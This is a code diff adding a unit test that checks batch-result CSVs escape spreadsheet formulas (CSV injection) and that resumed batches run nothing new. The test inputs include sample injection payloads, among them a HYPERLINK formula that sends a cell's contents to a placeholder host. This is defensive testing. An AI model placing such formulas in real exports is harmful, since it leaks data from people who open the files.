@@ -395,6 +395,29 @@ class ClientCommands(DaemonTestCase):
         self.assertEqual(p.returncode, OK, out(p))
         self.assertEqual(self.checks_sent(), 5, "a finished batch runs nothing")
 
+    def test_batch_results_never_hand_a_spreadsheet_a_formula(self):
+        # Results CSVs are opened in spreadsheets: a cell beginning = + - @
+        # (a case_ref from a web form, echoed in a refused row) would run as
+        # a formula (CSV injection).  Such cells get a leading ', and a
+        # resumed batch still knows its rows.
+        refs = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "-A1", "@SUM(1)", "+1", "'=kept",
+                "WM-F-1"]
+        f = self.batch_csv([[ref, "other", "fictitious", "Xylophanides", "Quorra", "", ""]
+                            for ref in refs])
+        res = self.work / "formula.csv"
+        p = self.ctl("cw.wm", "batch", f, "-o", res)
+        self.assertIn(p.returncode, (OK, REFUSED), out(p))
+        cells = [r["case_ref"] for r in csv.DictReader(open(res))]
+        self.assertEqual(cells, ["'" + refs[0], "'-A1", "'@SUM(1)", "'+1", "''=kept", "WM-F-1"])
+        self.assertEqual([r["status"] for r in csv.DictReader(open(res))][1], "200")
+        for line in res.read_text().splitlines()[1:]:
+            self.assertNotRegex(line.split(",", 2)[1], r'^"?[=+\-@]', line)
+        sent = self.checks_sent()
+        p = self.ctl("cw.wm", "batch", f, "-o", res)
+        self.assertIn(p.returncode, (OK, REFUSED), out(p))
+        self.assertNotIn("another input", out(p))
+        self.assertEqual(self.checks_sent(), sent, "a finished batch runs nothing")
+
     def test_batch_reads_quoted_fields_with_commas_quotes_and_line_breaks(self):
         why = 'Fictitious referral, line one\nthe applicant said "urgent"'
         f = self.batch_csv([["WM-B-Q", "other", why, "Farthingale", "Tobias", "1971-04-09", ""]])
